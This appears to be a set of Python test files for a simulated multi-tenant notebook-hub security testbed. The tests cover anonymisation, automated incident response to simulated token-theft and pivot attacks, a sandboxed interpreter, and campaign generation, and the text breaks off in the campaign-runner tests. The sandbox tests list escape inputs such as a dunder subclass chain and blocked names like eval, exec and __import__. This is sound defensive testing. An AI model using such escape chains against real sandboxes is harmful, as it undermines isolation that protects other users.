        rec = anon.anonymize_record(sample_records()[0])
        assert rec.fields["username"].startswith("u-")
        assert rec.fields["session"].startswith("u-")

    def test_code_dropped_size_kept(self):
        anon = Anonymizer(AnonymizationPolicy())
        rec = anon.anonymize_record(sample_records()[0])
        assert "code" not in rec.fields
        assert rec.fields["code_size"] == 9

    def test_timestamp_coarsening(self):
        anon = Anonymizer(AnonymizationPolicy(coarsen_timestamps_to=60))
        rec = anon.anonymize_record(sample_records()[1])
        assert rec.ts == 60.0

    def test_labels_preserved(self):
        anon = Anonymizer(AnonymizationPolicy.maximal())
        recs = anon.anonymize(sample_records())
        assert [r.label_malicious for r in recs] == [False, True, True]

    def test_none_policy_identity(self):
        anon = Anonymizer(AnonymizationPolicy.none())
        recs = anon.anonymize(sample_records())
        assert recs[0].src == "10.0.0.42"
        assert recs[0].fields["code"] == "import os"
        assert recs[0].ts == 12.3

    @settings(max_examples=30, deadline=None)
    @given(st.lists(st.integers(0, 255), min_size=4, max_size=4))
    def test_pseudonym_is_valid_ip_shape(self, octets):
        anon = Anonymizer(AnonymizationPolicy())
        out = anon.pseudonymize_ip(".".join(map(str, octets)))
        parts = out.split(".")
        assert len(parts) == 4
        assert all(0 <= int(p) <= 255 for p in parts)

    def test_pseudonymization_injective_within_subnet(self):
        anon = Anonymizer(AnonymizationPolicy())
        outs = {anon.pseudonymize_ip(f"10.0.0.{i}") for i in range(0, 200)}
        # The per-octet keyed permutation is injective: no two hosts in a
        # subnet may collide, or flow counts would silently merge.
        assert len(outs) == 200


class TestPrivacyMetrics:
    def test_k_anonymity(self):
        recs = sample_records()
        assert k_anonymity(recs, ("src", "family")) == 1  # alice's record is unique
        assert k_anonymity(recs[1:], ("src", "family")) == 2

    def test_k_anonymity_empty(self):
        assert k_anonymity([]) == 0

    def test_reidentification_risk(self):
        recs = sample_records()
        risk = reidentification_risk(recs, k=2)
        assert risk == pytest.approx(1 / 3)

    def test_coarsening_raises_k(self):
        # Coarsened corpus merges quasi-identifier classes.
        recs = sample_records()
        anon = Anonymizer(AnonymizationPolicy.maximal())
        k_before = k_anonymity(recs, ("src", "family"))
        k_after = k_anonymity(anon.anonymize(recs), ("src", "family"))
        assert k_after >= k_before


class TestMetrics:
    def test_confusion_matrix_math(self):
        cm = ConfusionMatrix()
        for actual, predicted in [(True, True), (True, False), (False, False), (False, True)]:
            cm.add(actual=actual, predicted=predicted)
        assert cm.tpr == 0.5 and cm.fpr == 0.5
        assert cm.precision == 0.5
        assert cm.f1 == 0.5

    def test_empty_matrix_safe(self):
        cm = ConfusionMatrix()
        assert cm.tpr == cm.fpr == cm.precision == cm.f1 == 0.0

    def test_source_level_evaluation(self):
        recs = sample_records() + [
            LabeledRecord(ts=95.0, family="notice", src="203.0.113.66", dst="",
                          fields={"name": "AUTH_BRUTEFORCE"}, label_malicious=True),
        ]
        cm = DetectionEvaluator().evaluate_sources(recs)
        assert cm.tp == 1   # attacker flagged
        assert cm.fp == 0   # alice not flagged
        assert cm.tn == 1

    def test_per_attack_detection(self):
        recs = sample_records() + [
            LabeledRecord(ts=95.0, family="notice", src="203.0.113.66", dst="",
                          fields={"name": "AUTH_BRUTEFORCE"}, label_malicious=True),
        ]
        per = DetectionEvaluator().per_attack_detection(recs)
        assert per == {"token-bruteforce": True}

    def test_roc_sweep_monotone(self):
        pairs = [(float(i), i >= 50) for i in range(100)]
        points = roc_sweep(pairs, thresholds=[0.0, 25.0, 50.0, 75.0, 200.0])
        tprs = [p["tpr"] for p in points]
        fprs = [p["fpr"] for p in points]
        assert tprs == sorted(tprs, reverse=True)
        assert fprs == sorted(fprs, reverse=True)
        assert points[3]["fpr"] == 0.0 and points[3]["tpr"] == 0.5
