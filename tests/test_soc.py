"""Tests for the automated response subsystem: alert correlation,
playbooks, containment actions, the response controller on defended
topologies, intel auto-blocking, and campaign containment forensics."""

import pytest

from repro.attacks import CrossTenantPivotAttack, StolenTokenAttack
from repro.attacks.campaign import CampaignRunner
from repro.eval.metrics import containment_rates, median
from repro.hub import build_hub_scenario, insecure_hub_config
from repro.monitor.logs import Notice
from repro.soc import (
    DEFAULT_RULES,
    AlertCorrelator,
    ContainmentActions,
    Incident,
    PlaybookRunner,
    ResponsePolicy,
    ResponseRule,
    run_replay,
)
from repro.soc.replay import exfil_campaign, pivot_campaign
from repro.taxonomy.oscrp import Avenue
from repro.topology import WorldBuilder, WorldSpec, defend, spec_preset
from repro.topology.spec import ServerSpec


def notice(name="CROSS_TENANT_SWEEP", *, ts=10.0, src="203.0.113.66",
           severity="high", avenue=Avenue.ACCOUNT_TAKEOVER, detail=None,
           detector="tenant-sweep"):
    return Notice(ts=ts, detector=detector, name=name, severity=severity,
                  src=src, avenue=avenue, detail=detail or {})


class TestAlertCorrelator:
    def test_folds_notices_into_one_incident_per_key(self):
        c = AlertCorrelator()
        c.ingest([notice(ts=1.0), notice(name="AUTH_BRUTEFORCE", ts=2.0,
                                         detector="brute-force")])
        assert len(c.incidents) == 1
        incident = c.open_incidents()[0]
        assert incident.notice_count == 2
        assert incident.notice_names == ["CROSS_TENANT_SWEEP", "AUTH_BRUTEFORCE"]
        assert incident.detectors == {"tenant-sweep", "brute-force"}
        assert incident.external is True

    def test_distinct_sources_and_avenues_split_incidents(self):
        c = AlertCorrelator()
        c.ingest([
            notice(src="203.0.113.66"),
            notice(src="203.0.113.99"),
            notice(src="203.0.113.66", name="EXFIL_VOLUME",
                   avenue=Avenue.DATA_EXFILTRATION),
        ])
        assert len(c.incidents) == 3

    def test_severity_escalates_never_deescalates(self):
        c = AlertCorrelator()
        c.ingest([notice(severity="medium", ts=1.0)])
        c.ingest([notice(severity="critical", ts=2.0)])
        c.ingest([notice(severity="low", ts=3.0)])
        incident = c.open_incidents()[0]
        assert incident.severity == "critical"
        assert incident.last_update == 3.0

    def test_same_notice_object_processed_once(self):
        c = AlertCorrelator()
        n = notice()
        c.ingest([n])
        c.ingest([n])  # a merged fleet view re-presents the same objects
        assert c.open_incidents()[0].notice_count == 1

    def test_cross_shard_notices_fold_to_one_incident(self):
        # Three shard monitors each notice the same sweep source: one
        # incident, three corroborating notices.
        c = AlertCorrelator()
        c.ingest([notice(ts=float(i)) for i in range(3)])
        assert len(c.incidents) == 1
        assert c.open_incidents()[0].notice_count == 3

    def test_internal_and_principal_sources_not_external(self):
        c = AlertCorrelator()
        c.ingest([notice(src="10.0.1.10", name="EXFIL_VOLUME",
                         avenue=Avenue.DATA_EXFILTRATION),
                  notice(src="kernel", name="RANSOMWARE_ENTROPY_BURST",
                         avenue=Avenue.RANSOMWARE),
                  notice(src="attacker-via-stolen-session",
                         name="POLICY_NET_PLUS_FILE_READ",
                         avenue=Avenue.DATA_EXFILTRATION)])
        assert all(not i.external for i in c.open_incidents())

    def test_example_tenants_accumulate(self):
        c = AlertCorrelator()
        c.ingest([notice(detail={"example_tenants": ["user00", "user01"]}),
                  notice(ts=11.0, detail={"example_tenants": ["user02"]})])
        assert c.open_incidents()[0].tenants == {"user00", "user01", "user02"}

    def test_summary_counts(self):
        c = AlertCorrelator()
        c.ingest([notice(), notice(src="10.0.1.9", severity="critical")])
        s = c.summary()
        assert s["incidents"] == 2 and s["open"] == 2
        assert s["by_severity"] == {"critical": 1, "high": 1}


class TestPlaybook:
    def rule(self, **kw):
        kw.setdefault("name", "r")
        kw.setdefault("actions", ("block_source",))
        return ResponseRule(**kw)

    def incident(self, **kw):
        c = AlertCorrelator()
        c.ingest([notice(**kw)])
        return c.open_incidents()[0]

    def test_severity_threshold(self):
        assert self.rule(min_severity="high").matches(self.incident())
        assert not self.rule(min_severity="critical").matches(self.incident())

    def test_notice_count_threshold(self):
        incident = self.incident()
        assert not self.rule(min_notices=2).matches(incident)
        incident.notice_count = 2
        assert self.rule(min_notices=2).matches(incident)

    def test_avenue_and_name_filters(self):
        incident = self.incident()
        assert self.rule(avenues=(Avenue.ACCOUNT_TAKEOVER,)).matches(incident)
        assert not self.rule(avenues=(Avenue.RANSOMWARE,)).matches(incident)
        assert self.rule(notice_names=("CROSS_TENANT_SWEEP",)).matches(incident)
        assert not self.rule(notice_names=("EXFIL_VOLUME",)).matches(incident)

    def test_source_scope(self):
        external = self.incident()
        internal = self.incident(src="10.0.1.10")
        assert self.rule(source_scope="external").matches(external)
        assert not self.rule(source_scope="external").matches(internal)
        assert self.rule(source_scope="internal").matches(internal)
        assert self.rule(source_scope="any").matches(external)

    def test_cooldown_and_new_evidence_gating(self):
        runner = PlaybookRunner((self.rule(cooldown=60.0),))
        incident = self.incident()
        (due,) = runner.due(incident, 100.0)
        runner.mark_fired(due, incident, 100.0)
        # Inside cooldown: never due, evidence or not.
        incident.notice_count += 1
        assert runner.due(incident, 130.0) == []
        # Cooldown expired + new evidence: due again.
        assert runner.due(incident, 200.0) == [due]
        runner.mark_fired(due, incident, 200.0)
        # Cooldown expired, no new evidence: stays quiet forever.
        assert runner.due(incident, 10_000.0) == []

    def test_default_rules_cover_both_scopes(self):
        scopes = {r.source_scope for r in DEFAULT_RULES}
        assert {"external", "internal"} <= scopes

    def test_shed_padding_rule_only_fires_on_slo_burn(self):
        # The SLO feedback rule must be inert in worlds without SLOs:
        # nothing else emits SLO_BURN, and an ordinary high-severity
        # incident must not match it.
        (rule,) = [r for r in DEFAULT_RULES if r.name == "shed-padding-on-burn"]
        assert rule.notice_names == ("SLO_BURN",)
        assert rule.actions == ("relax_padding",)
        incident = Incident(incident_id="INC-X", source="203.0.113.66",
                            tenant="-", avenue=Avenue.DATA_EXFILTRATION,
                            opened=5.0, last_update=5.0, severity="critical",
                            notice_count=3, external=True)
        incident.notice_names.append("EXFIL_VOLUME")
        assert not rule.matches(incident)
        incident.notice_names.append("SLO_BURN")
        assert rule.matches(incident)


class TestContainmentActions:
    def test_block_refuses_own_infrastructure(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        actions = ContainmentActions(proxies=[s.proxy])
        ok, detail = actions.block_source(s.server_host.ip)
        assert not ok and "own infrastructure" in detail
        assert s.server_host.ip not in s.proxy.blocked_sources

    def test_block_and_unblock_roundtrip(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        actions = ContainmentActions(proxies=[s.proxy])
        ok, _ = actions.block_source("203.0.113.66")
        assert ok and "203.0.113.66" in s.proxy.blocked_sources
        ok2, detail = actions.block_source("203.0.113.66")
        assert not ok2 and "already blocked" in detail
        ok3, _ = actions.unblock_source("203.0.113.66")
        assert ok3 and "203.0.113.66" not in s.proxy.blocked_sources

    def test_unparseable_sources_rejected(self):
        actions = ContainmentActions()
        assert actions.block_source("kernel")[0] is False
        assert actions.block_source("")[0] is False

    def test_quarantine_and_tenant_resolution(self):
        s = build_hub_scenario(n_tenants=2, seed_data=False)
        actions = ContainmentActions(proxies=[s.proxy], users=s.hub,
                                     spawner=s.spawner)
        node_ip = s.spawner.active["user00"].host.ip
        assert actions.tenants_on_host_ip(node_ip) == ["user00", "user01"]
        ok, detail = actions.quarantine_tenant("user01")
        assert ok and "quarantined" in detail
        assert "user01" in s.spawner.quarantined
        assert actions.tenants_on_host_ip(node_ip) == ["user00"]

    def test_revoke_token_keeps_owner_working(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        actions = ContainmentActions(proxies=[s.proxy], users=s.hub,
                                     spawner=s.spawner)
        old = s.hub.users["user00"].token
        ok, _ = actions.revoke_token("user00")
        assert ok
        new = s.hub.users["user00"].token
        assert new != old
        # The owner's client (fresh token) still reaches their server.
        client = s.user_client(username="user00")
        client.token = new
        assert client.request("GET", "/api/status").status == 200


class TestResponsePolicySpecs:
    def test_response_on_single_server_rejected(self):
        with pytest.raises(ValueError, match="hub topology"):
            WorldSpec(name="bad", server=ServerSpec(),
                      response=ResponsePolicy())

    def test_defended_presets_carry_policy(self):
        for name in ("defended-hub", "defended-sharded-hub",
                     "defended-honeypot-hub"):
            spec = spec_preset(name)
            assert spec.defended, name
            assert spec.response is not None and spec.response.rules
            assert spec.name.startswith("defended-")

    def test_defend_wraps_any_hub_spec(self):
        spec = defend(spec_preset("sharded-honeypot-hub"))
        assert spec.defended and spec.name == "defended-sharded-honeypot-hub"

    def test_builder_attaches_controller(self):
        s = WorldBuilder().build(spec_preset("defended-hub", n_tenants=1,
                                             seed_data=False))
        assert s.soc is not None
        assert s.soc.playbook.rules == list(DEFAULT_RULES)
        s.run(5.0)
        assert s.soc.polls >= 2  # the poll loop is live on the event loop

    def test_undefended_presets_have_no_soc(self):
        s = build_hub_scenario(n_tenants=1, seed_data=False)
        assert s.soc is None

    def test_disabled_policy_attaches_nothing(self):
        spec = defend(spec_preset("hub", n_tenants=1, seed_data=False),
                      ResponsePolicy(enabled=False))
        s = WorldBuilder().build(spec)
        assert s.soc is None


class TestDefendedHubEndToEnd:
    def build_defended(self, **kw):
        kw.setdefault("n_tenants", 4)
        kw.setdefault("hub_config", insecure_hub_config())
        kw.setdefault("seed_data", False)
        return WorldBuilder().build(spec_preset("defended-hub", **kw), seed=33)

    def test_pivot_is_detected_correlated_and_blocked(self):
        s = self.build_defended()
        StolenTokenAttack().run(s)
        CrossTenantPivotAttack(request_delay=0.5).run(s)
        s.run(10.0)
        s.soc.poll()
        sweep_incidents = [i for i in s.soc.correlator.incidents.values()
                           if "CROSS_TENANT_SWEEP" in i.notice_names]
        assert sweep_incidents and sweep_incidents[0].source == s.attacker_host.ip
        assert s.attacker_host.ip in s.proxy.blocked_sources
        blocks = [a for a in s.soc.containment_actions()
                  if a.action == "block_source"
                  and a.target == s.attacker_host.ip]
        assert blocks and blocks[0].rule == "block-hostile-source"
        # Swept tenants had their exposed tokens rotated.
        assert s.hub.revocations > 0
        # And the return wave dies at the edge.
        result = CrossTenantPivotAttack(request_delay=0.2).run(s)
        assert result.success is False

    def test_dry_run_decides_but_does_not_act(self):
        spec = defend(
            spec_preset("hub", n_tenants=4, hub_config=insecure_hub_config(),
                        seed_data=False),
            ResponsePolicy(dry_run=True))
        s = WorldBuilder().build(spec, seed=33)
        StolenTokenAttack().run(s)
        CrossTenantPivotAttack(request_delay=0.5).run(s)
        s.run(10.0)
        s.soc.poll()
        assert any(a.dry_run for a in s.soc.executed)
        assert s.soc.containment_actions() == []
        assert s.proxy.blocked_sources == set()
        assert s.spawner.quarantined == set()

    def test_timeline_and_summary_shapes(self):
        s = self.build_defended(n_tenants=2)
        StolenTokenAttack().run(s)
        s.run(10.0)
        summary = s.soc.summary()
        assert set(summary) == {"policy", "polls", "incidents", "actions",
                                "uncontainment"}
        assert summary["polls"] >= 1
        assert all(isinstance(line, str) for line in s.soc.timeline())


class TestIntelAutoBlock:
    def test_decoy_touch_blocks_source_fleetwide(self):
        s = WorldBuilder().build(
            spec_preset("defended-honeypot-hub", n_tenants=2), seed=44)
        from repro.server.gateway import WebSocketKernelClient

        decoy_name = s.decoy_tenant_names[0]
        probe = WebSocketKernelClient(
            s.attacker_host, s.server_host, port=s.proxy.config.port,
            token="", username="sweep", path_prefix=f"/user/{decoy_name}")
        assert probe.request("GET", "/api/contents/").status == 200
        s.run(5.0)  # poll -> harvest -> burned-source indicator -> block
        assert s.attacker_host.ip in s.proxy.blocked_sources
        intel = [a for a in s.soc.containment_actions()
                 if a.rule == "intel-auto-block"]
        assert intel and intel[0].target == s.attacker_host.ip

    def test_intel_signatures_install_into_monitor(self):
        s = WorldBuilder().build(
            spec_preset("defended-honeypot-hub", n_tenants=2), seed=44)
        from repro.honeypot.intel import Indicator

        s.fleet.feed.publish(Indicator(
            indicator_id="ind-test-xyz", indicator_type="content-signature",
            pattern=r"xyzpayload", description="test payload",
            confidence=0.9, source="honeypot:test", created=1.0))
        assert "SIG-TEST-XYZ" in s.monitor.signatures.ids()

    def test_low_confidence_indicators_not_blocked(self):
        s = WorldBuilder().build(
            spec_preset("defended-honeypot-hub", n_tenants=2), seed=44)
        from repro.honeypot.intel import Indicator

        s.fleet.feed.publish(Indicator(
            indicator_id="ind-src-1.2.3.4", indicator_type="source-ip",
            pattern="1.2.3.4", description="weak sighting",
            confidence=0.2, source="honeypot:test", created=1.0))
        assert "1.2.3.4" not in s.proxy.blocked_sources


class TestCampaignForensics:
    def test_undefended_outcome_has_no_containment(self):
        runner = CampaignRunner(base_seed=900, spec=spec_preset(
            "hub", n_tenants=2, hub_config=insecure_hub_config()))
        (outcome,) = runner.run([pivot_campaign()])
        assert outcome.contained is False
        assert outcome.actions == []
        assert outcome.containment_leadtime is None
        if outcome.detected:
            assert outcome.post_detection_success is True

    def test_defended_outcome_records_leadtime_and_prevention(self):
        runner = CampaignRunner(base_seed=900, spec=spec_preset(
            "defended-hub", n_tenants=2, hub_config=insecure_hub_config()))
        (outcome,) = runner.run([exfil_campaign()])
        assert outcome.detected and outcome.contained
        assert outcome.containment_leadtime is not None
        assert outcome.containment_leadtime >= 0
        assert outcome.post_detection_success is False
        assert outcome.stages_prevented >= 1
        assert outcome.actions_taken()

    def test_containment_rates_math(self):
        assert median([]) is None
        assert median([3.0]) == 3.0
        assert median([1.0, 2.0, 10.0]) == 2.0
        assert median([1.0, 3.0]) == 2.0
        rates = containment_rates([])
        assert rates["contained"] == 0.0
        assert rates["median_containment_leadtime"] is None


class TestReplay:
    def test_replay_pivot_on_defended_hub(self):
        report = run_replay(topology="defended-hub", campaign="pivot",
                            seed=11, n_tenants=4)
        assert report.containment_actions > 0
        assert report.outcome.post_detection_success is False
        d = report.to_dict()
        assert d["topology"] == "defended-hub"
        assert d["contained_at"] is not None
        assert d["actions"]

    def test_replay_unknown_campaign_rejected(self):
        with pytest.raises(KeyError):
            run_replay(campaign="no-such-campaign")
