"""Tests for the MiniPython interpreter: semantics, safety, metering."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.kernel.interp import MiniPython
from repro.kernel.world import KernelWorld
from repro.util.errors import ResourceLimitError, SecurityViolation


def run(code: str, **kw):
    interp = MiniPython(KernelWorld(), **kw)
    return interp.execute(code), interp


def result_of(code: str):
    outcome, _ = run(code)
    assert outcome.status == "ok", f"{outcome.ename}: {outcome.evalue}"
    return outcome.result


class TestExpressions:
    @pytest.mark.parametrize(
        "code,expected",
        [
            ("1 + 2 * 3", 7),
            ("2 ** 10", 1024),
            ("17 // 5, 17 % 5", (3, 2)),
            ("-5 + +3", -2),
            ("~0", -1),
            ("1 << 4 | 3", 19),
            ("0xff & 0x0f", 15),
            ("7 ^ 1", 6),
            ("10 / 4", 2.5),
            ("'ab' + 'cd'", "abcd"),
            ("'ab' * 3", "ababab"),
            ("not True", False),
            ("True and 5", 5),
            ("0 or 'fallback'", "fallback"),
            ("1 < 2 < 3", True),
            ("1 < 2 > 5", False),
            ("3 in [1, 2, 3]", True),
            ("'x' not in 'abc'", True),
            ("None is None", True),
            ("1 if True else 2", 1),
            ("[1, 2, 3][1]", 2),
            ("[1, 2, 3, 4][1:3]", [2, 3]),
            ("[1, 2, 3, 4][::-1]", [4, 3, 2, 1]),
            ("{'a': 1}['a']", 1),
            ("(1, 2, 3)[-1]", 3),
            ("len('hello')", 5),
            ("sum(range(10))", 45),
            ("max([3, 1, 4])", 4),
            ("sorted([3, 1, 2])", [1, 2, 3]),
            ("[x * x for x in range(4)]", [0, 1, 4, 9]),
            ("[x for x in range(10) if x % 3 == 0]", [0, 3, 6, 9]),
            ("{x: x * 2 for x in range(3)}", {0: 0, 1: 2, 2: 4}),
            ("{x % 3 for x in range(10)}", {0, 1, 2}),
            ("[(i, j) for i in range(2) for j in range(2)]", [(0, 0), (0, 1), (1, 0), (1, 1)]),
            ("list(zip([1, 2], ['a', 'b']))", [(1, 'a'), (2, 'b')]),
            ("{**{'a': 1}, 'b': 2}", {"a": 1, "b": 2}),
            ("'abc'.upper()", "ABC"),
            ("'a,b,c'.split(',')", ["a", "b", "c"]),
            ("','.join(['x', 'y'])", "x,y"),
            ("'hello world'.replace('world', 'jupyter')", "hello jupyter"),
            ("b'bytes'.hex()", "6279746573"),
            ("int('42')", 42),
            ("str(3.5)", "3.5"),
            ("divmod(17, 5)", (3, 2)),
            ("abs(-3)", 3),
        ],
    )
    def test_expression_values(self, code, expected):
        assert result_of(code) == expected

    def test_fstrings(self):
        assert result_of("x = 41\nf'answer={x + 1}'") == "answer=42"
        assert result_of("f'{3.14159:.2f}'") == "3.14"
        assert result_of("f'{\"s\"!r}'") == "'s'"

    def test_lambda(self):
        assert result_of("f = lambda a, b=10: a + b\nf(5)") == 15
        assert result_of("list(map(lambda x: x * 2, [1, 2]))") == [2, 4]

    def test_generator_expression_materialized(self):
        assert result_of("sum(x for x in range(5))") == 10


class TestStatements:
    def test_assignment_and_state_persists(self):
        interp = MiniPython(KernelWorld())
        interp.execute("x = 10")
        outcome = interp.execute("x + 5")
        assert outcome.result == 15

    def test_tuple_unpacking(self):
        assert result_of("a, b = 1, 2\n(a, b)") == (1, 2)
        assert result_of("a, (b, c) = 1, (2, 3)\nc") == 3

    def test_unpack_arity_error(self):
        outcome, _ = run("a, b = 1, 2, 3")
        assert outcome.status == "error" and outcome.ename == "ValueError"

    def test_augmented_assignment(self):
        assert result_of("x = 5\nx += 3\nx") == 8
        assert result_of("d = {'k': 1}\nd['k'] *= 10\nd['k']") == 10

    def test_subscript_assignment(self):
        assert result_of("d = {}\nd['a'] = 1\nd") == {"a": 1}

    def test_del(self):
        assert result_of("d = {'a': 1, 'b': 2}\ndel d['a']\nlist(d)") == ["b"]
        outcome, _ = run("x = 1\ndel x\nx")
        assert outcome.ename == "NameError"

    def test_if_elif_else(self):
        code = "def f(n):\n    if n < 0:\n        return 'neg'\n    elif n == 0:\n        return 'zero'\n    else:\n        return 'pos'\n[f(-1), f(0), f(1)]"
        assert result_of(code) == ["neg", "zero", "pos"]

    def test_while_with_break_continue(self):
        code = (
            "total = 0\ni = 0\n"
            "while True:\n"
            "    i += 1\n"
            "    if i > 10:\n        break\n"
            "    if i % 2:\n        continue\n"
            "    total += i\n"
            "total"
        )
        assert result_of(code) == 2 + 4 + 6 + 8 + 10

    def test_for_else(self):
        assert result_of("out = []\nfor i in range(3):\n    out.append(i)\nelse:\n    out.append('done')\nout") == [0, 1, 2, "done"]

    def test_for_break_skips_else(self):
        code = "out = []\nfor i in range(3):\n    break\nelse:\n    out.append('no')\nout"
        assert result_of(code) == []

    def test_functions_closures(self):
        code = (
            "def make_adder(n):\n"
            "    def add(x):\n"
            "        return x + n\n"
            "    return add\n"
            "add5 = make_adder(5)\n"
            "add5(10)"
        )
        assert result_of(code) == 15

    def test_function_defaults_and_kwargs(self):
        code = "def f(a, b=2, c=3):\n    return (a, b, c)\nf(1, c=30)"
        assert result_of(code) == (1, 2, 30)

    def test_function_arg_errors(self):
        outcome, _ = run("def f(a):\n    return a\nf()")
        assert outcome.ename == "TypeError"
        outcome, _ = run("def f(a):\n    return a\nf(1, 2)")
        assert outcome.ename == "TypeError"
        outcome, _ = run("def f(a):\n    return a\nf(1, a=2)")
        assert outcome.ename == "TypeError"

    def test_recursion(self):
        code = "def fib(n):\n    if n < 2:\n        return n\n    return fib(n-1) + fib(n-2)\nfib(12)"
        assert result_of(code) == 144

    def test_recursion_depth_limited(self):
        outcome, _ = run("def loop(n):\n    return loop(n + 1)\nloop(0)")
        assert outcome.ename == "ResourceLimitError"

    def test_global_statement(self):
        code = (
            "counter = 0\n"
            "def bump():\n"
            "    global counter\n"
            "    counter = counter + 1\n"
            "bump()\nbump()\ncounter"
        )
        assert result_of(code) == 2

    def test_try_except(self):
        assert result_of("try:\n    1 / 0\nexcept ZeroDivisionError:\n    x = 'caught'\nx") == "caught"

    def test_try_except_name_binding(self):
        assert result_of("try:\n    raise ValueError('boom')\nexcept ValueError as e:\n    msg = str(e)\nmsg") == "boom"

    def test_try_except_tuple(self):
        assert result_of("try:\n    int('x')\nexcept (TypeError, ValueError):\n    r = 'ok'\nr") == "ok"

    def test_try_finally_runs(self):
        code = "log = []\ntry:\n    log.append('t')\nfinally:\n    log.append('f')\nlog"
        assert result_of(code) == ["t", "f"]

    def test_unmatched_exception_propagates(self):
        outcome, _ = run("try:\n    1/0\nexcept KeyError:\n    pass")
        assert outcome.ename == "ZeroDivisionError"

    def test_raise(self):
        outcome, _ = run("raise RuntimeError('bad state')")
        assert (outcome.ename, outcome.evalue) == ("RuntimeError", "bad state")

    def test_assert(self):
        outcome, _ = run("assert 1 == 2, 'math is broken'")
        assert outcome.ename == "AssertionError"
        assert result_of("assert True\n'ok'") == "ok"

    def test_print_captured(self):
        outcome, _ = run("print('hello', 42)")
        assert outcome.stdout == "hello 42\n"

    def test_syntax_error_reported(self):
        outcome, _ = run("def broken(:")
        assert outcome.status == "error" and outcome.ename == "SyntaxError"


class TestSecurity:
    def test_dunder_access_blocked(self):
        outcome, _ = run("().__class__")
        assert outcome.ename == "SecurityViolation"

    def test_class_escape_chain_blocked(self):
        outcome, _ = run("[].__class__.__bases__[0].__subclasses__()")
        assert outcome.ename == "SecurityViolation"

    def test_no_eval_exec_getattr(self):
        for name in ("eval", "exec", "getattr", "setattr", "globals", "locals", "__import__", "compile", "vars"):
            outcome, _ = run(f"{name}")
            assert outcome.ename == "NameError", name

    def test_import_unknown_module_fails(self):
        outcome, _ = run("import ctypes")
        assert outcome.ename == "NameError"

    def test_star_import_blocked(self):
        outcome, _ = run("from os import *")
        assert outcome.ename == "SecurityViolation"

    def test_class_definitions_blocked(self):
        outcome, _ = run("class Evil:\n    pass")
        assert outcome.ename == "SecurityViolation"

    def test_with_blocked(self):
        outcome, _ = run("with open('x') as f:\n    pass")
        assert outcome.ename == "SecurityViolation"

    def test_async_blocked(self):
        outcome, _ = run("async def f():\n    pass")
        assert outcome.ename == "SecurityViolation"

    def test_pre_execute_hook_can_deny(self):
        def deny(code):
            if "forbidden" in code:
                raise SecurityViolation("policy denied", policy="test")

        interp = MiniPython(KernelWorld(), pre_execute_hooks=[deny])
        outcome = interp.execute("x = 'forbidden'")
        assert outcome.ename == "SecurityViolation"

    def test_user_cannot_catch_security_violation(self):
        outcome, _ = run("try:\n    ().__class__\nexcept Exception:\n    x = 'swallowed'")
        assert outcome.ename == "SecurityViolation"

    def test_user_cannot_catch_resource_limit(self):
        code = "try:\n    while True:\n        pass\nexcept Exception:\n    x = 'swallowed'"
        outcome, _ = run(code, max_ops=10_000)
        assert outcome.ename == "ResourceLimitError"


class TestMetering:
    def test_infinite_loop_hits_budget(self):
        outcome, _ = run("while True:\n    pass", max_ops=50_000)
        assert outcome.ename == "ResourceLimitError"

    def test_ops_counted(self):
        outcome, _ = run("x = 0\nfor i in range(100):\n    x += i")
        assert outcome.meter.ops > 100

    def test_cpu_seconds_scale_with_work(self):
        light, _ = run("x = 1")
        heavy, _ = run("x = 0\nfor i in range(10000):\n    x += i")
        assert heavy.meter.cpu_seconds > 10 * light.meter.cpu_seconds

    def test_hash_calls_metered(self):
        outcome, _ = run("import hashlib\nfor i in range(50):\n    hashlib.sha256(str(i)).hexdigest()")
        assert outcome.meter.hash_calls == 50

    def test_sleep_accumulates_duration(self):
        outcome, _ = run("import time\ntime.sleep(2.5)")
        assert outcome.meter.duration_seconds >= 2.5

    def test_budget_resets_between_cells(self):
        interp = MiniPython(KernelWorld(), max_ops=100_000)
        a = interp.execute("x = sum(range(1000))")
        b = interp.execute("y = sum(range(1000))")
        assert a.status == b.status == "ok"


class TestDifferentialVsCPython:
    """The safe expression subset must agree with the host interpreter."""

    EXPRS = st.recursive(
        st.integers(min_value=-50, max_value=50).map(str),
        lambda children: st.tuples(children, st.sampled_from(["+", "-", "*"]), children).map(
            lambda t: f"({t[0]} {t[1]} {t[2]})"
        ),
        max_leaves=12,
    )

    @settings(max_examples=200, deadline=None)
    @given(EXPRS)
    def test_arithmetic_matches(self, expr):
        expected = eval(expr)  # noqa: S307 - trusted generated arithmetic
        assert result_of(expr) == expected

    @settings(max_examples=50, deadline=None)
    @given(st.lists(st.integers(-100, 100), min_size=1, max_size=20))
    def test_list_ops_match(self, xs):
        code = f"xs = {xs!r}\n(sorted(xs), sum(xs), max(xs), min(xs), len(xs))"
        assert result_of(code) == (sorted(xs), sum(xs), max(xs), min(xs), len(xs))
