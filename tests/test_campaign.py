"""Tests for automated campaign generation (§IV.B AI-driven attacks),
campaign failure forensics, and the topology matrix."""

import pytest

from repro.attacks.base import Attack
from repro.attacks.campaign import (
    OBJECTIVES,
    Campaign,
    CampaignGenerator,
    CampaignOutcome,
    CampaignRunner,
    MatrixCell,
    MatrixReport,
    TopologyMatrixRunner,
)
from repro.eval.metrics import outcome_rates


class TestGenerator:
    def test_generates_requested_objective(self):
        gen = CampaignGenerator(seed=1)
        campaign = gen.generate("extort")
        assert campaign.objective == "extort"
        assert "ransomware" in campaign.stage_names()

    def test_all_objectives_reachable(self):
        gen = CampaignGenerator(seed=2)
        objectives = {gen.generate().objective for _ in range(30)}
        assert objectives == set(OBJECTIVES)

    def test_deterministic_given_seed(self):
        a = CampaignGenerator(seed=3).generate_fleet(5)
        b = CampaignGenerator(seed=3).generate_fleet(5)
        assert [c.stage_names() for c in a] == [c.stage_names() for c in b]
        assert [c.objective for c in a] == [c.objective for c in b]

    def test_parameter_variation_between_campaigns(self):
        """No two generated ransomware payloads share a key — the
        'variety defeats exact signatures' property."""
        gen = CampaignGenerator(seed=4)
        keys = []
        for _ in range(10):
            c = gen.generate("extort")
            ransomware = next(s for s in c.stages if s.name == "ransomware")
            keys.append(ransomware.key)
        assert len(set(keys)) == len(keys)

    def test_access_stage_always_present(self):
        gen = CampaignGenerator(seed=5)
        for _ in range(10):
            c = gen.generate()
            assert "stolen-token" in c.stage_names()

    def test_ids_increment(self):
        gen = CampaignGenerator(seed=6)
        fleet = gen.generate_fleet(3)
        assert [c.campaign_id for c in fleet] == [1, 2, 3]


class TestRunner:
